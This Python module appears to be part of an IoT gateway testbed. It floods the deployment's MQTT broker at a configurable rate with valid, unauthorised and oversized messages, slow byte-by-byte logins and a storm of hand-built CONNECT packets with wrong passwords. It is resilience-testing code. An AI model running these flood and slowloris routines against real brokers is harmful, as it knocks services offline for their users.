"""Sends a flood: at a rate, until it is told to end, by one attacker with one relay login."""

from __future__ import annotations

import asyncio
import secrets
import threading
import time
from collections.abc import Awaitable, Callable
from contextlib import suppress

from gateway.mqtt.client import payload_bytes_max
from gateway.mqtt.topics import Up
from testbed.attacker.attacker import Attacker
from testbed.attacker.puppet import Puppet
from testbed.provision.deployment import Deployment

__all__ = ["Flooding"]

IN_FLIGHT_MAX = 256
TICK_S = 0.02


class Flooding:
    def __init__(self, deployment: Deployment) -> None:
        self._attacker = attacker = Attacker(deployment)
        attacker.become_relay()
        self.relay = attacker.relay.node
        self._own_device()
        self._stop = threading.Event()
        self._ended = threading.Event()
        self._messages = self._bytes = 0

    def begin(self, how: str, rate_per_s: float) -> None:
        """Start sending, on the attacker's own thread."""
        self._stop.clear()
        self._ended.clear()
        self._messages = self._bytes = 0
        ways: dict[str, Callable[[], Awaitable[int]]] = {
            "valid": self._valid,
            "invalid": self._invalid,
            "oversized": self._oversized,
            "slow": self._slow,
            "storm": self._storm,
        }
        self._attacker.start(self._pour(ways[how], rate_per_s))

    def end(self) -> tuple[int, int]:
        """Stop sending. Returns (messages or connections, bytes) that were sent."""
        self._stop.set()
        self._ended.wait(5.0)
        return self._messages, self._bytes

    def close(self) -> None:
        self._stop.set()
        self._attacker.close()

    async def _pour(self, one: Callable[[], Awaitable[int]], rate_per_s: float) -> None:
        """Send as many as are due. What the broker does not take in time is not sent later."""
        began_s, due, flying = time.monotonic(), 0, set[asyncio.Task[None]]()
        try:
            while not self._stop.is_set():
                now_due = int((time.monotonic() - began_s) * rate_per_s)
                while due < now_due and len(flying) < IN_FLIGHT_MAX:
                    due += 1
                    task = asyncio.ensure_future(self._one(one))
                    flying.add(task)
                    task.add_done_callback(flying.discard)
                due = max(due, now_due - IN_FLIGHT_MAX)
                await asyncio.sleep(TICK_S)
        finally:
            for task in list(flying):
                task.cancel()
            self._ended.set()

    async def _one(self, one: Callable[[], Awaitable[int]]) -> None:
        with suppress(OSError, TimeoutError):
            size = await one()
            self._bytes += size
            self._messages += 1

    async def _publish(self, device: str, kind: str, body: bytes) -> int:
        await self._attacker.publish(device, kind, body)
        return len(body)

    def _own_device(self) -> None:
        """Get a device whose messages the system accepts."""
        self._device = self._attacker.admitted()

    async def _valid(self) -> int:
        body = self._device.sign(self._device.data(payload=secrets.token_bytes(16)))
        return await self._publish(self._device.node.hex(), "op", body)

    async def _invalid(self) -> int:
        stranger = Puppet(self._attacker.network)
        return await self._publish(stranger.node.hex(), "op", stranger.sign(stranger.data()))

    async def _oversized(self) -> int:
        relay = self._attacker.relay.node
        topic = str(Up(self._attacker.net, relay, relay, "op"))
        payload = bytes(payload_bytes_max)
        await self._attacker.publish_raw(topic, payload)
        return len(payload)

    async def _slow(self) -> int:
        """Log in so slowly that only one byte comes each second."""
        reader, writer = await self._connection()
        try:
            for sent, byte in enumerate(b"\x10\x7f\x00\x04MQTT\x04\xc2\x00\x3c", 1):
                writer.write(bytes((byte,)))
                await writer.drain()
                with suppress(TimeoutError):
                    await asyncio.wait_for(reader.read(1), 1.0)
                    return sent
                if self._stop.is_set():
                    return sent
        finally:
            writer.close()
        return 14

    async def _storm(self) -> int:
        reader, writer = await self._connection()
        try:
            name = secrets.token_hex(32).encode()
            fields = b"\x00\x04MQTT\x04\xc2\x00\x3c" + b"".join(
                len(each).to_bytes(2) + each for each in (name, name, b"wrong")
            )
            size = len(fields)
            head = b"\x10" + bytes((size & 0x7F | 0x80, size >> 7))
            writer.write(head + fields)
            await writer.drain()
            await asyncio.wait_for(reader.read(4), 5.0)
            return len(head) + size
        finally:
            writer.close()

    async def _connection(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        broker = self._attacker.deployment.broker
        return await asyncio.open_connection(broker.host, broker.port)
